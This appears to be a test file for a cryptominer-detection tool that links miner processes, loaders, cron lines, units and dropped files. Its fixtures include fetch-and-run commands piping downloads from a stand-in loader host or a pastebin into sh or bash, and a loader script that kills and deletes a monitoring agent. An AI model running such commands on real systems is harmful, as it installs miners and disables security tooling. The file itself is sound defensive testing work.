import { describe, expect, it } from 'vitest';
import { infectedSnapshot, LOADER, labContext, pidsOf } from '../../../test/shared/infected-snapshot.ts';
import {
  autostart,
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  process,
  socket,
} from '../../../test/shared/snapshots.ts';
import type { Written } from '../../../test/shared/written.ts';
import type { Process, Snapshot } from '../../snapshot.ts';
import { judge } from '../index.ts';
import { linkedProcess, linksOf, listening, minedAt } from '../mined-host.fixture.ts';

const pid = pidsOf();
describe('links of the procedure’s infection', () => {
  it('reach guard, loader, both spools and three files; the fetcher is covered by its loader', () => {
    const links = linksOf(infectedSnapshot());
    expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.guard, pid.loader]);
    expect(links.covered).toEqual([{ pid: pid.fetcher, by: pid.loader }]);
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/ddg.2021', '/tmp/i.sh', '/tmp/wnTKYg']);
    expect(links.cronLines.map((l) => `${l.path} ${l.number}`)).toEqual([
      '/var/spool/cron/crontabs/root 2',
      '/var/spool/cron/crontabs/root 3',
      '/var/spool/cron/root 2',
      '/var/spool/cron/root 3',
    ]);
    expect([...links.processes, ...links.files, ...links.cronLines].every((one) => one.selected)).toBe(true);
  });

  it('do not reach a guard that is no ancestor of the miner: that it names the miner is a word', () => {
    const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
    expect(links.processes.map((p) => p.pid)).toEqual([pid.miner, pid.loader]);
    expect(links.cronLines.every((one) => one.selected && !one.linked)).toBe(true);
  });

  it('each begin at the confirmed miner and add a sentence a hop', () => {
    const links = linksOf(infectedSnapshot({ minerParent: 'init' }));
    for (const link of [...links.processes, ...links.files, ...links.cronLines, ...links.downloads]) {
      expect(link.why[0]).toMatch(/^wnTKYg \(pid 1000, \/tmp\/wnTKYg\) is a confirmed miner: /);
      expect(link.why.every((sentence) => sentence.endsWith('.'))).toBe(true);
      expect(link.kinds).toHaveLength(link.why.length);
    }
    expect(linkedProcess(links, pid.loader)?.role).toBe('loader');
  });
});

describe('parents', () => {
  it('that start others for a living are never linked', () => {
    for (const exe of [
      '/usr/sbin/cron',
      '/usr/sbin/sshd',
      '/usr/lib/systemd/systemd',
      '/usr/bin/containerd-shim',
    ]) {
      const snapshot = minedAt('/opt/m/miner', { processes: [process({ pid: 899, exe })] }, { ppid: 899 });
      expect(linkedProcess(linksOf(snapshot), 899)).toBeUndefined();
    }
  });

  it('that are a person’s shell or a packaged service are not linked', () => {
    const shell = process({ pid: 899, exe: '/usr/bin/bash', argv: ['-bash'], stdin: '/dev/pts/0' });
    const service = process({ pid: 899, exe: '/usr/sbin/nginx' });
    for (const parent of [shell, service]) {
      expect(
        linkedProcess(linksOf(minedAt('/tmp/m', { processes: [parent] }, { ppid: 899 })), 899),
      ).toBeUndefined();
    }
  });

  it('that bear no mark of their own are offered unticked and lead nowhere', () => {
    const parent = process({ pid: 899, exe: '/opt/tomcat/server' });
    const sibling = process({ pid: 901, ppid: 899, exe: '/opt/tomcat/job' });
    const links = linksOf(minedAt('/tmp/m', { processes: [parent, sibling] }, { ppid: 899 }));
    expect(linkedProcess(links, 899)).toMatchObject({ selected: false, role: 'parent' });
    expect(linkedProcess(links, 901)).toBeUndefined();
  });

  it('that serve nobody else are guards, in whatever folder; services are offered unticked', () => {
    const roleOf = (more: Written<Partial<Process>>, sockets: Snapshot['sockets'] = []) => {
      const parent = process({ pid: 899, exe: '/usr/local/games/upd', image: { package: null }, ...more });
      return linkedProcess(
        linksOf(minedAt('/var/lib/nfsd/k', { processes: [parent], sockets }, { ppid: 899 })),
        899,
      );
    };
    expect(roleOf({})).toMatchObject({ selected: true, role: 'guard' });
    expect(roleOf({ cgroup: '/system.slice/runner.service' })).toMatchObject({ selected: false });
    for (const cgroup of [
      '/system.slice/docker-0123abcd.scope',
      '/docker/0123abcd',
      '/kubepods.slice/kubepods-burstable.slice/cri-containerd-0123.scope',
      '/kubepods/besteffort/pod1/0123',
      '/machine.slice/libpod-0123.scope',
      '/lxc.payload.web',
    ]) {
      expect(roleOf({ cgroup }), cgroup).toMatchObject({ selected: false, role: 'parent' });
    }
    expect(roleOf({}, [listening(899)])).toMatchObject({ selected: false });
  });

  it('that read a pipe are loaders within a command, and somebody’s session under sshd', () => {
    const piped = (ppid: number) =>
      process({ pid: 899, ppid, exe: '/usr/bin/dash', argv: ['sh'], stdin: 'pipe:[9]', pipes: ['9'] });
    const command = process({ pid: 898, exe: '/usr/bin/dash', argv: ['sh', '-c', 'zcat /srv/x | sh'] });
    const session = process({ pid: 898, exe: '/usr/sbin/sshd', argv: ['sshd: root@notty'] });
    const of = (parent: Process) =>
      linkedProcess(
        linksOf(minedAt('/opt/m/miner', { processes: [parent, piped(898)] }, { ppid: 899 })),
        899,
      );
    expect(of(command)).toMatchObject({ selected: true, role: 'loader' });
    expect(of(session)).toBeUndefined();
  });

  it('that run a command which starts the miner are linked through it', () => {
    const inline = process({
      pid: 899,
      exe: '/usr/bin/dash',
      argv: ['sh', '-c', 'nohup /opt/m/miner >/dev/null 2>&1'],
    });
    expect(
      linkedProcess(linksOf(minedAt('/opt/m/miner', { processes: [inline] }, { ppid: 899 })), 899)?.selected,
    ).toBe(true);
  });
});

describe('children', () => {
  it('descendants of a linked process are covered by it, and programs of their own are targets', () => {
    const child = process({ pid: 901, ppid: 900, exe: '/usr/bin/sleep' });
    const grandchild = process({ pid: 902, ppid: 901, exe: '/usr/bin/sleep' });
    const own = process({ pid: 903, ppid: 902, exe: '/tmp/other' });
    const links = linksOf(minedAt('/tmp/m', { processes: [child, grandchild, own] }));
    expect(links.processes.map((p) => [p.pid, p.role])).toEqual([
      [900, 'miner'],
      [903, 'child'],
    ]);
    expect(links.covered).toEqual([
      { pid: 901, by: 900 },
      { pid: 902, by: 900 },
    ]);
  });
});

describe('names', () => {
  it('a cron line that runs the miner is linked; one that only names it is not', () => {
    const cronFiles = [
      crontab('/var/spool/cron/crontabs/root', [
        '@reboot /opt/m/miner -q',
        '* * * * * test -x /opt/m/miner && logger found',
      ]),
    ];
    const links = linksOf(minedAt('/opt/m/miner', { cronFiles }));
    expect(links.cronLines).toMatchObject([{ number: 1, selected: true }]);
    expect(links.cronLines).toHaveLength(1);
  });

  it('a tool that names the miner is not linked, a script that starts it is, wherever it lies', () => {
    const files = [
      file('/opt/edr/rules.sh', '#!/bin/sh\nrm -f /opt/m/miner\n'),
      file('/tmp/.k/start', '#!/bin/sh\n/opt/m/miner &\n'),
      file('/srv/k/start', '#!/bin/sh\ncd /opt/m && nohup ./miner &\n'),
    ];
    const links = linksOf(minedAt('/opt/m/miner', { files }));
    expect(links.files.map((f) => [f.path, f.selected])).toEqual([
      ['/opt/m/miner', true],
      ['/srv/k/start', true],
      ['/tmp/.k/start', true],
    ]);
  });

  it('what a loader attacks is not linked by being named', () => {
    const agent = process({ pid: 901, exe: '/opt/cloudmonitor/agent' });
    const loader = file(
      '/tmp/i.sh',
      `#!/bin/sh\npkill -f /opt/cloudmonitor/agent\nrm -rf /opt/cloudmonitor/agent\ncurl http://${LOADER}:8443/a | sh\n/tmp/m\n`,
    );
    const links = linksOf(
      minedAt('/tmp/m', { processes: [agent], files: [loader, elf('/opt/cloudmonitor/agent')] }),
    );
    expect(linkedProcess(links, 901)).toBeUndefined();
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/i.sh', '/tmp/m']);
  });

  it('a crontab that a loader writes to is no file to delete', () => {
    const links = linksOf({
      ...infectedSnapshot(),
      files: [...infectedSnapshot().files, file('/var/spool/cron/root', '* * * * * x\n')],
    });
    expect(links.files.some((f) => f.path === '/var/spool/cron/root')).toBe(false);
  });

  it.each(['/opt/m/miner', '/opt/à/miner', '/opt/m/a\u00a0b'])(
    'a unit that starts the miner is seen: %s',
    (path) => {
      const unit = autostart('/etc/systemd/system/m.service', `[Service]\nExecStart=${path} -q\n`);
      expect(linksOf(minedAt(path, { persistence: [unit] })).persistence.map((p) => p.path)).toEqual([
        unit.path,
      ]);
    },
  );
});

describe('downloads', () => {
  const line = (command: string) => [
    crontab('/var/spool/cron/crontabs/www-data', [`*/7 * * * * ${command}`]),
  ];
  const loader = file('/tmp/i.sh', `#!/bin/sh\ncurl http://${LOADER}:8443/a | sh\n/opt/m/miner &\n`);

  it('a fetch-and-run line of the same scheme, host and port is linked, whatever it is called there', () => {
    const links = linksOf(
      minedAt('/opt/m/miner', {
        files: [loader],
        cronFiles: line(`wget -qO- http://${LOADER}:8443/zz | bash`),
      }),
    );
    expect(links.cronLines).toMatchObject([{ selected: true }]);
  });

  it('another port, another scheme, or a fetch that runs nothing is not', () => {
    const other = (command: string) =>
      linksOf(minedAt('/opt/m/miner', { files: [loader], cronFiles: line(command) })).cronLines;
    expect(other(`wget -qO- http://${LOADER}/zz | bash`)).toMatchObject([{ linked: false, selected: true }]);
    expect(other(`wget -qO- https://${LOADER}:8443/zz | bash`)).toMatchObject([
      { linked: false, selected: false },
    ]);
    expect(
      linksOf(
        minedAt('/opt/m/miner', {
          files: [loader],
          cronFiles: line(`curl -fsS http://${LOADER}:8443/ping >/dev/null`),
        }),
      ).cronLines,
    ).toEqual([]);
  });

  it('hosting that many share links by the whole address only', () => {
    const script = file('/tmp/i.sh', '#!/bin/sh\ncurl https://pastebin.com/raw/abc | sh\n/opt/m/miner &\n');
    const of = (path: string) =>
      linksOf(
        minedAt('/opt/m/miner', {
          files: [script],
          cronFiles: line(`curl https://pastebin.com/raw/${path} | sh`),
        }),
      );
    expect(of('abc').cronLines).toMatchObject([{ selected: true }]);
    expect(of('other').cronLines).toMatchObject([{ selected: false }]);
  });

  it('the shell that cron started from a ticked line is ticked, and covers its children', () => {
    const command = `curl -fsSL http://${LOADER}:8443/i.sh | sh`;
    const processes = [
      process({ pid: 950, ppid: 300, exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', command] }),
      process({
        pid: 951,
        ppid: 950,
        exe: '/usr/bin/curl',
        argv: ['curl', '-fsSL', `http://${LOADER}:8443/i.sh`],
      }),
    ];
    const snapshot = infectedSnapshot();
    const links = linksOf({ ...snapshot, processes: [...snapshot.processes, ...processes] });
    expect(linkedProcess(links, 950)?.role).toBe('loader');
    expect(links.covered).toContainEqual({ pid: 951, by: 950 });
  });

  it('a fetch-and-run line that nothing links is offered unticked, with the reason', () => {
    const links = linksOf(
      minedAt('/opt/m/miner', { cronFiles: line('curl -fsSL https://get.example/x | sh') }),
    );
    expect(links.cronLines).toMatchObject([{ selected: false }]);
    expect(links.cronLines[0]?.why.join(' ')).toContain('nothing links it');
  });
});

describe('known indicators', () => {
  it('link files by hash and unpackaged processes by address', () => {
    const guard = process({ pid: 901, exe: '/opt/g/guard' });
    const agent = process({ pid: 902, exe: '/usr/bin/curl', argv: ['curl', 'https://192.0.2.1/'] });
    const snapshot = minedAt('/opt/m/miner', {
      processes: [guard, agent],
      sockets: [socket([901], '203.0.113.50', 8443), socket([902], '192.0.2.1', 443)],
      files: [elf('/srv/drop')],
    });
    const hashes = { [hashOf('image /srv/drop')]: 'guard' };
    const addresses = [{ address: '203.0.113.50', port: 8443, what: 'ddg' }];
    const links = linksOf(snapshot, {
      ...labContext,
      indicators: { ...labContext.indicators, hashes, addresses },
    });
    expect(linkedProcess(links, 901)?.why.at(-1)).toContain('known as ddg');
    expect(linkedProcess(links, 902)).toBeUndefined();
    expect(links.files.map((f) => f.path)).toContain('/srv/drop');
  });
});

describe('content that is next to nothing', () => {
  const EMPTY = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
  const lock = '/tmp/.X11-lock';

  it.each([
    ['empty', '', EMPTY],
    ['of a few bytes', '900\n', hashOf('900\n')],
  ])('links no other file by its hash: %s', (_what, text, sha256) => {
    const named = file('/tmp/ddg.lock', text, { sha256 });
    const others = [lock, '/var/lib/app/ready'].map((path) => file(path, text, { sha256 }));
    const starter = file('/tmp/i.sh', '#!/bin/sh\n/tmp/m\n/tmp/ddg.lock\n');
    const running = process({ pid: 901, exe: '/usr/bin/dash', argv: ['sh', '/tmp/ddg.lock'] });
    const snapshot = minedAt('/tmp/m', { processes: [running], files: [starter, named, ...others] });
    const links = linksOf(snapshot);
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/i.sh', '/tmp/m']);
  });

  it('links no other process by its hash', () => {
    const script = (at: number, path: string, ppid: number) =>
      process({ pid: at, ppid, exe: '/usr/bin/dash', argv: ['sh', path] });
    const snapshot = minedAt('/tmp/m', {
      processes: [script(901, '/tmp/a', 900), script(902, '/srv/b', 1)],
      files: [file('/tmp/a', '', { sha256: EMPTY }), file('/srv/b', '', { sha256: EMPTY })],
    });
    expect(linksOf(snapshot).processes.map((p) => p.pid)).toEqual([900, 901]);
  });

  it('is no known hash, whatever a list says', () => {
    const hashes = { [EMPTY]: 'in somebody’s list', [hashOf('1\n')]: 'in another list' };
    const context = { ...labContext, indicators: { ...labContext.indicators, hashes } };
    const files = [file(lock, '', { sha256: EMPTY }), file('/tmp/flag', '1\n')];
    expect(judge(cleanSnapshot({ files }), context).verdict.verdict).toBe('not-a-miner');
    expect(linksOf(minedAt('/tmp/m', { files }), context).files.map((f) => f.path)).toEqual(['/tmp/m']);
  });
});
